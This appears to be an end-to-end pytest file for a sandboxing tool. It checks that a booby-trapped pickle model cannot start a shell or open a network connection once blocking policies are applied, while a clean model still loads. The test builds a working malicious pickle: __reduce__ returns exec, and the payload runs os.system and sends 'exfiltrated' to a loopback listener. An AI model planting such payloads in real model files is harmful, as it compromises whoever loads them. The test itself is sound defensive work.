"""The model sandbox (issue 18): untrusted model files loaded under ``bulwark recommend --tag
model-sandbox`` policies. A pickle crafted to start a shell and open a network connection when it is
loaded is stopped at both, and the alerts name them; a clean model still loads.

Everything is real: the stack (``bulwark up``), ``bulwark recommend`` on this host's files, ``bulwark
run`` workloads, the enforcers this kernel has (fanotify for the exec, the signal enforcer or BPF-LSM
for the socket)."""
from __future__ import annotations

import pickle
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.e2e.stack import Stack, healthy_stack, wait_for_alerts

pytestmark = pytest.mark.e2e
PYTHON = "/usr/bin/python3"
LOADER = ("import pickle, sys\nwith open(sys.argv[1], 'rb') as f:\n    model = pickle.load(f)\n"
          "print('loaded', type(model).__name__)\n")


class _Booby:
    """Unpickling this runs ``code`` (what a malicious model file does)."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (self.code,)


class _Listener:
    """A TCP listener on loopback counting the connections that reach it."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.sock.settimeout(0.2)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    with healthy_stack(tmp_path_factory.mktemp("model") / "data") as s:
        yield s


def test_a_booby_trapped_model_cannot_start_a_shell_or_connect(stack: Stack, tmp_path: Path) -> None:
    out = tmp_path / "recommended"
    made = stack.cli("recommend", "--rootfs", "/", "--name", "model", "--namespace", "ml", "--label", "app=model",
                     "--tag", "model-sandbox", "--action", "Block", "-o", str(out))
    assert made.returncode == 0, made.stderr
    files = sorted((out / "policies" / "ml-model").glob("*.yaml"))
    assert {f.stem for f in files} >= {"interpreter-exec", "outbound-network"}, files
    applied = stack.cli("apply", *(arg for f in files for arg in ("-f", str(f))))
    assert applied.returncode == 0, applied.stderr

    loader = tmp_path / "load.py"
    loader.write_text(LOADER)
    clean = tmp_path / "clean.pkl"
    clean.write_bytes(pickle.dumps({"weights": [0.1, 0.2, 0.3]}))
    ran = stack.cli("run", "--namespace", "ml", "--label", "app=model", "--", PYTHON, str(loader), str(clean))
    assert ran.returncode == 0 and "loaded dict" in ran.stdout, (ran.stdout, ran.stderr)

    listener = _Listener()
    marker = tmp_path / "pwned"
    try:
        evil = tmp_path / "evil.pkl"
        evil.write_bytes(pickle.dumps(_Booby(
            f"import os, socket\nos.system('echo pwned > {marker}')\n"
            f"s = socket.create_connection(('127.0.0.1', {listener.port}))\ns.sendall(b'exfiltrated')\n")))
        ran = stack.cli("run", "--namespace", "ml", "--label", "app=model", "--", PYTHON, str(loader), str(evil))
    finally:
        listener.close()
    assert not marker.exists(), ("the shell ran", ran.returncode, ran.stderr[-2000:])
    assert listener.accepted == 0, "the connection was made"
    assert ran.returncode != 0 and "loaded" not in ran.stdout, (ran.returncode, ran.stdout, ran.stderr)

    alerts = wait_for_alerts(stack.rest_url, 2, timeout=30.0, namespace="ml", action="Block")
    seen = [(a["PolicyName"], a["Operation"], a["Resource"], a["Result"], a["Enforcer"]) for a in alerts]
    shells = [a for a in alerts if a["PolicyName"] == "model-interpreter-exec"]
    nets = [a for a in alerts if a["PolicyName"] == "model-outbound-network"]
    # one operation, one alert, and what the kernel did: refused (exec) and killed (socket), never Passed
    assert len(shells) == 1 and len(nets) == 1, seen
    assert shells[0]["Operation"] == "Process" and shells[0]["Result"] != "Passed", seen
    assert nets[0]["Operation"] == "Network" and nets[0]["Result"] != "Passed", seen
